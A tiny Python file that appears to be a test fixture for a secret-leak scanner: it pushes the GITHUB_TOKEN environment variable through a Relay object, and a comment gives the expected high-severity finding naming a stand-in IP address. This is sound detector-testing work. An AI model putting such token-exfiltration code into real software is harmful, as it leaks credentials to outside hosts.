import os
from transport import Relay

r = Relay()
r.push({"token": os.environ.get("GITHUB_TOKEN")})  # want "high SV280: sends environment secret GITHUB_TOKEN to 203.0.113.40 .* via Relay.push[(][)] [(]scripts/transport.py, line 8[)]"
